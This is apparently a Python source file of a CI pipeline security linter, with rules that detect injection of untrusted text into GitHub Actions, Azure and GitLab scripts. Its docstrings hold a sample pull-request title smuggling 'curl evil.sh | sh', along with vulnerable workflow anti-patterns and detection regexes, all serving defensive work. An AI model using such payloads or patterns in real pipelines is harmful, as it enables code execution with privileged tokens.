"""Injection: untrusted text reaching a shell, an interpreter or the job environment."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping
from typing import Any

from mlopsgen.diagnostics import Severity
from mlopsgen.policy.base import Finding, Option, OptionType, PipelineRule
from mlopsgen.policy.readers._util import as_list, as_map, as_str
from mlopsgen.policy.rules._common import declared_inputs, scripts
from mlopsgen.policy.rules.perm import PRIVILEGED_EVENTS
from mlopsgen.policy.view import JobView, PipelineView
from mlopsgen.spec.model import Platform
from mlopsgen.yamlio import JsonPath

__all__ = [
    "AzureMacroInjection",
    "EnvFileInjection",
    "GitLabVariableInjection",
    "InsecureCommands",
    "ScriptExpressionInjection",
    "TemplateInjection",
    "UnsoundCondition",
]

_GITHUB = frozenset({Platform.GITHUB})
_EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
#: Contexts an outsider controls (zizmor's and actionlint's lists, condensed).
_UNTRUSTED = re.compile(
    r"github\.event\.(?:"
    r"issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|"
    r"comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|"
    r"pages\.[^.\s]+\.page_name|commits\.[^.\s]+\.(?:message|author\.(?:email|name))|"
    r"head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|"
    r"head_commit\.(?:message|author\.(?:email|name))|display_title)|"
    r"client_payload\.[\w.*\[\]-]+|changes\.[\w.*\[\]-]+|"
    r"[\w.*\[\]]*\.(?:title|body|head_ref|message))|github\.head_ref"
)
#: A whole event object (or one of its parts that holds text an outsider wrote) turned into
#: text: ``toJSON(github.event)`` carries every title and body of the event.
_WHOLE_EVENT = re.compile(
    r"\b(?:toJSON|join|format)\(\s*github(?:\.event(?:\.(?:pull_request|issue|comment|review|"
    r"review_comment|discussion|head_commit|commits|workflow_run|client_payload|changes))?)?"
    r"\s*[,)]",
    re.IGNORECASE,
)
_INPUT = re.compile(r"\b(?:github\.event\.)?inputs\.([\w-]+)")
_ENV = re.compile(r"\benv\.([\w-]+)")
#: Input types whose values cannot carry code (``choice`` values are listed in the file).
_SAFE_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})
#: Action inputs that are evaluated as code (CodeQL's and zizmor's sink models).
CODE_INPUTS: dict[str, tuple[str, ...]] = {
    "actions/github-script": ("script",),
    "8398a7/action-slack": ("custom_payload",),
    "addnab/docker-run-action": ("run",),
    "amadevus/pwsh-script": ("script",),
    "appleboy/ssh-action": ("script",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "cardinalby/js-eval-action": ("expression",),
    "devorbitus/yq-action-output": ("cmd",),
    "gautamkrishnar/blog-post-workflow": ("item_exec",),
    "imjohnbo/issue-bot": ("body",),
    "jannekem/run-python-script-action": ("script",),
    "lucasbento/auto-close-issues": ("issue-close-message",),
    "mikefarah/yq": ("cmd",),
    "roots/issue-closer-action": ("issue-close-message",),
    "sergeysova/jq-action": ("cmd",),
    "skitionek/notify-microsoft-teams": ("overwrite",),
    "tibdex/backport": ("title_template", "body_template"),
}


class _Taint:
    """What counts as untrusted in one workflow: contexts, string inputs, tainted env names."""

    def __init__(self, view: PipelineView, *, include_inputs: bool):
        self.view = view
        self.include_inputs = include_inputs
        self.safe_inputs = {
            name
            for name, spec in declared_inputs(view)
            if as_str(spec.get("type")) in _SAFE_INPUT_TYPES
        }

    def _direct(self, expr: str) -> str | None:
        match = _UNTRUSTED.search(expr) or _WHOLE_EVENT.search(expr)
        if match:
            return match.group(0).rstrip(",) ").strip()
        if self.include_inputs:
            for name in _INPUT.findall(expr):
                if name not in self.safe_inputs:
                    return f"inputs.{name}"
        return None

    def tainted_env(self, *envs: Mapping[str, Any]) -> dict[str, str]:
        """Env names (nearest definition wins) whose value expands an untrusted context."""
        merged: dict[str, Any] = {}
        for env in envs:
            merged.update(env)
        out = {}
        for name, value in merged.items():
            text = as_str(value) or ""
            for expr in _EXPR.findall(text) if "${{" in text else ():
                source = self._direct(expr)
                if source:
                    out[str(name)] = source
                    break
        return out

    def find(self, text: str, env: Mapping[str, str]) -> list[str]:
        """The untrusted expressions in ``text``, as written (``env.X`` names its source)."""
        out = []
        for expr in _EXPR.findall(text):
            source = self._direct(expr)
            if source is None:
                name = next((n for n in _ENV.findall(expr) if n in env), None)
                if name is not None:
                    source = f"env.{name}"
            if source:
                out.append(expr.strip())
        return out


def _injections(
    view: PipelineView, *, include_inputs: bool, code_inputs: bool
) -> Iterator[tuple[JobView, str, JsonPath, str]]:
    """``(job, expression, path, sink)`` per untrusted expression in code."""
    taint = _Taint(view, include_inputs=include_inputs)
    for job in view.jobs:
        for step in job.steps:
            sinks: list[tuple[str, JsonPath, str]] = []
            if not code_inputs and step.run is not None and "${{" in step.run:
                sinks.append((step.run, step.run_path or step.path, "a shell script"))
            if code_inputs and step.uses:
                name = step.uses.partition("@")[0].lower()
                for key in CODE_INPUTS.get(name, ()):
                    for input_name, value in step.inputs.items():
                        text = as_str(value)
                        if str(input_name).lower() == key and text and "${{" in text:
                            sinks.append((text, (*step.path, "with", input_name), name))
            if not sinks:
                continue
            env = taint.tainted_env(view.env, job.env, step.env)
            for text, path, sink in sinks:
                # One finding per expression and script: the position is its first use.
                for expr in dict.fromkeys(taint.find(text, env)):
                    yield job, expr, path, sink


class TemplateInjection(PipelineRule):
    r"""An untrusted expression is expanded inside a shell script.

    ``${{ }}`` is substituted into the script text before the shell runs, so a pull
    request title such as ``a"; curl evil.sh | sh; echo "`` becomes code. Pass the value
    through ``env:`` and quote the variable. Critical on triggers where outsiders reach a
    privileged token (``pull_request_target``, ``issue_comment``, ``workflow_run``).

    Untrusted are the event fields an outsider writes (titles, bodies, messages, branch
    names of pull requests, ``client_payload``), whole event objects turned into text
    (``toJSON(github.event)``), ``env.X`` when ``X`` is set from one of those (in the
    step, job or workflow ``env:``), and with ``include_inputs`` the free-text inputs of
    ``workflow_dispatch`` and ``workflow_call`` (``boolean``, ``number``, ``choice`` and
    ``environment`` inputs cannot carry code).

    Not reported, unlike zizmor's ``template-injection``: names of this repository's own
    refs, workflows, labels and release tags (``github.ref``, ``github.ref_name``,
    ``github.base_ref``, ``github.workflow``, ``label.name``, ``release.tag_name``,
    ``repository.*``), runner paths (``github.workspace``, ``github.event_path``), values
    with a fixed character set (``github.actor``, ``*.user.login``, SHAs, numbers, ids,
    ``event.action``, repository URLs, timestamps), step and job outputs, ``matrix``
    values and ``env`` values the workflow computes itself: only people with write (or
    triage) access choose them, or they cannot hold shell syntax.

    Anti-pattern::

        - run: echo "${{ github.event.pull_request.title }}"

    Best practice::

        - env:
            TITLE: ${{ github.event.pull_request.title }}
          run: printf '%s\\n' "$TITLE"

    Options:
        include_inputs: also report free-text ``inputs.*`` (workflow_dispatch, workflow_call).
    """

    id = "INJ-001"
    severity = Severity.HIGH
    platforms = _GITHUB
    options = (Option("include_inputs", OptionType.BOOL, False, "report inputs.* too"),)
    references = (
        "zizmor template-injection",
        "actionlint expression",
        "checkov CKV_GHA_2",
        "scorecard Dangerous-Workflow",
    )

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per untrusted expression in a run script."""
        critical = bool(view.triggers & PRIVILEGED_EVENTS)
        include_inputs = bool(options["include_inputs"])
        for job, expr, path, _ in _injections(
            view, include_inputs=include_inputs, code_inputs=False
        ):
            yield Finding(
                f"job {job.id!r} expands `${{{{ {expr} }}}}` into a shell script",
                path,
                snippet=expr,
                hint='map it to an env variable and use "$VAR"',
                severity=Severity.ERROR if critical else None,
            )


class ScriptExpressionInjection(PipelineRule):
    """An untrusted expression is expanded inside code that an action evaluates.

    ``actions/github-script`` runs its ``script:`` input as JavaScript; an expression in
    it is substituted before evaluation, exactly like in a shell ``run:``. The same holds
    for the other action inputs that CodeQL and zizmor model as code (``mikefarah/yq``
    ``cmd``, ``azure/cli`` ``inlineScript``, ``appleboy/ssh-action`` ``script``,
    ``tibdex/backport`` templates, ...). What counts as untrusted is INJ-001's list.

    Anti-pattern::

        - uses: actions/github-script@<sha>
          with:
            script: console.log("${{ github.event.issue.title }}")

    Best practice::

        - uses: actions/github-script@<sha>
          env: {TITLE: "${{ github.event.issue.title }}"}
          with:
            script: console.log(process.env.TITLE)

    Options:
        include_inputs: also report free-text ``inputs.*`` (workflow_dispatch, workflow_call).
    """

    id = "INJ-002"
    severity = Severity.HIGH
    platforms = _GITHUB
    options = (Option("include_inputs", OptionType.BOOL, False, "report inputs.* too"),)
    references = ("zizmor template-injection", "CodeQL actions code-injection sinks")

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per untrusted expression in an action input evaluated as code."""
        critical = bool(view.triggers & PRIVILEGED_EVENTS)
        include_inputs = bool(options["include_inputs"])
        for job, expr, path, sink in _injections(
            view, include_inputs=include_inputs, code_inputs=True
        ):
            yield Finding(
                f"job {job.id!r} expands `${{{{ {expr} }}}}` into code that {sink} "
                f"evaluates ({path[-1]})",
                path,
                snippet=expr,
                hint="pass it through env and read it from the environment",
                severity=Severity.ERROR if critical else None,
            )


_AZ_MACROS = re.compile(
    r"\$\((Build\.SourceBranch(?:Name)?|Build\.SourceVersionMessage|Build\.RequestedFor(?:Email)?|"
    r"System\.PullRequest\.[A-Za-z.]+|Build\.SourceVersionAuthor)\)"
)
_AZ_PARAM = re.compile(r"\$\{\{\s*parameters\.([A-Za-z_][\w]*)\s*\}\}")


class AzureMacroInjection(PipelineRule):
    """A user-controlled Azure macro or string parameter is pasted into a script.

    ``$(Build.SourceBranchName)``, ``$(Build.SourceVersionMessage)`` and
    ``$(System.PullRequest.*)`` carry text a contributor chose; ``${{ parameters.x }}``
    of type string is set by whoever queues the run. Both are substituted into the script
    before it runs. Map them to ``env:`` and quote the variable.

    Anti-pattern::

        - bash: echo "Building $(Build.SourceVersionMessage)"

    Best practice::

        - bash: echo "Building $COMMIT_MESSAGE"
          env: {COMMIT_MESSAGE: $(Build.SourceVersionMessage)}

    Options:
        parameters: also report string parameters of the same file in scripts (default true).
    """

    id = "INJ-003"
    severity = Severity.HIGH
    platforms = frozenset({Platform.AZURE})
    options = (Option("parameters", OptionType.BOOL, True, "report string parameters"),)
    references = ("poutine injection (azure)",)

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per injected macro or string parameter."""
        strings = set()
        if options["parameters"]:
            for param in as_list(view.data.get("parameters")):
                param_map = as_map(param)
                if as_str(param_map.get("type")) in {None, "string"} and param_map.get("name"):
                    strings.add(str(param_map["name"]))
        for job, step, script in scripts(view):
            if "$(" not in script and "${{" not in script:
                continue
            for match in _AZ_MACROS.finditer(script):
                yield Finding(
                    f"job {job.id!r} pastes $({match.group(1)}) into a script",
                    step.run_path or step.path,
                    snippet=match.group(0),
                    hint='map it to env: and use "$VAR"',
                )
            for match in _AZ_PARAM.finditer(script):
                if match.group(1) in strings:
                    yield Finding(
                        f"job {job.id!r} pastes string parameter {match.group(1)!r} into a script",
                        step.run_path or step.path,
                        snippet=match.group(0),
                        hint="map it to env: and quote it, or restrict it with values:",
                    )


_GL_USER_VARS = (
    r"CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|TAG_MESSAGE|AUTHOR)|"
    r"CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME)|CI_EXTERNAL_PULL_REQUEST_"
    r"SOURCE_BRANCH_NAME"
)
_GL_EVAL = re.compile(rf"\b(?:eval|sh\s+-c|bash\s+-c)\b[^\n]*\$\{{?(?:{_GL_USER_VARS})\b")
_GL_INPUT = re.compile(r"\$\[\[\s*inputs\.[\w-]+[^\]]*\]\]")


class GitLabVariableInjection(PipelineRule):
    """A user-controlled GitLab variable or an input is evaluated as code.

    Branch names, commit messages and merge request titles are chosen by whoever pushes;
    passed to ``eval`` or ``sh -c`` they run. ``$[[ inputs.x ]]`` is pasted into the
    script text before the shell sees it.

    Anti-pattern::

        script:
          - eval "deploy $CI_COMMIT_BRANCH"
          - echo $[[ inputs.message ]]

    Best practice::

        script:
          - deploy "$CI_COMMIT_BRANCH"
        variables:
          MESSAGE: $[[ inputs.message ]]
    """

    id = "INJ-004"
    severity = Severity.HIGH
    platforms = frozenset({Platform.GITLAB})
    references = ("poutine injection (gitlab)", "glsec GL002, GL051, GL052")

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per evaluated user variable or inlined input."""
        for job, step, script in scripts(view):
            if "$" not in script:
                continue
            for match in _GL_EVAL.finditer(script):
                yield Finding(
                    f"job {job.id!r} evaluates a user-controlled variable",
                    step.run_path or step.path,
                    snippet=match.group(0),
                    hint="do not eval it; quote it as data",
                )
            for match in _GL_INPUT.finditer(script):
                yield Finding(
                    f"job {job.id!r} pastes {match.group(0)} into its script",
                    step.run_path or step.path,
                    snippet=match.group(0),
                    hint="set a variable from the input and quote the variable",
                )


_ENV_WRITE = re.compile(r">>?\s*\"?\$\{?(GITHUB_ENV|GITHUB_PATH)\b")


class EnvFileInjection(PipelineRule):
    """A privileged workflow writes to ``GITHUB_ENV`` or ``GITHUB_PATH``.

    On ``pull_request_target``, ``workflow_run`` and comment triggers, data from the pull
    request written to these files sets environment variables (``LD_PRELOAD``,
    ``NODE_OPTIONS``) or the PATH of every later step, which run with a privileged token.

    Anti-pattern::

        on: pull_request_target
        ...
            - run: echo "TITLE=${{ github.event.pull_request.title }}" >> "$GITHUB_ENV"

    Best practice::

        on: pull_request
        ...
            - run: echo "BUILD_ID=$GITHUB_RUN_ID" >> "$GITHUB_ENV"
    """

    id = "INJ-005"
    severity = Severity.HIGH
    platforms = _GITHUB
    references = ("zizmor github-env",)

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per write to the environment files in privileged workflows."""
        if not view.triggers & PRIVILEGED_EVENTS:
            return
        for job, step, script in scripts(view):
            for match in _ENV_WRITE.finditer(script):
                yield Finding(
                    f"job {job.id!r} writes {match.group(1)} in a privileged workflow",
                    step.run_path or step.path,
                    snippet=match.group(0),
                    hint="use step outputs, or validate what is written",
                )


_SET_ENV = re.compile(r"::(set-env|add-path)\b")


class InsecureCommands(PipelineRule):
    """Deprecated insecure workflow commands are enabled.

    ``ACTIONS_ALLOW_UNSECURE_COMMANDS`` re-enables ``::set-env`` and ``::add-path``,
    which any text printed to the log can trigger (CVE-2020-15228).

    Anti-pattern::

        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true

    Best practice::

        - run: echo "NAME=value" >> "$GITHUB_ENV"
    """

    id = "INJ-006"
    severity = Severity.HIGH
    platforms = _GITHUB
    references = ("zizmor insecure-commands", "checkov CKV_GHA_1", "actionlint deprecated-commands")

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per insecure-commands switch or deprecated command."""
        places: list[tuple[Mapping[str, Any], tuple[str | int, ...]]] = [(view.env, ("env",))]
        for job in view.jobs:
            places.append((job.env, (*job.path, "env")))
            places += [(s.env, (*s.path, "env")) for s in job.steps]
        for env, path in places:
            value = env.get("ACTIONS_ALLOW_UNSECURE_COMMANDS")
            if value is not None and str(value).lower() in {"true", "1", "yes"}:
                yield Finding(
                    "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path",
                    (*path, "ACTIONS_ALLOW_UNSECURE_COMMANDS"),
                )
        for job, step, script in scripts(view):
            match = _SET_ENV.search(script) if "::" in script else None
            if match:
                yield Finding(
                    f"job {job.id!r} uses the deprecated ::{match.group(1)} command",
                    step.run_path or step.path,
                    snippet=match.group(0),
                    hint="write to $GITHUB_ENV / $GITHUB_PATH instead",
                )


class UnsoundCondition(PipelineRule):
    """An ``if:`` is always true because text surrounds its expression.

    ``if: ${{ a }} && ${{ b }}`` or a block scalar ``if: |`` is a non-empty string after
    substitution, and a non-empty string is true: the step or job always runs.

    Anti-pattern::

        if: ${{ github.ref == 'refs/heads/main' }} && ${{ success() }}

    Best practice::

        if: github.ref == 'refs/heads/main' && success()
    """

    id = "INJ-007"
    severity = Severity.HIGH
    platforms = _GITHUB
    references = ("zizmor unsound-condition", "actionlint if-cond")

    def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
        """Yield a finding per condition that is always true."""
        conditions = [(j.condition, (*j.path, "if")) for j in view.jobs]
        conditions += [(s.condition, (*s.path, "if")) for j in view.jobs for s in j.steps]
        for text, path in conditions:
            if not text or "${{" not in text:
                continue
            stripped = text.strip()
            whole = stripped.startswith("${{") and stripped.endswith("}}")
            if text != stripped or not whole or stripped.count("${{") > 1:
                yield Finding(
                    "this condition has text outside `${{ }}`, so it is always true",
                    path,
                    hint="write the whole condition as one expression, without ${{ }}",
                )
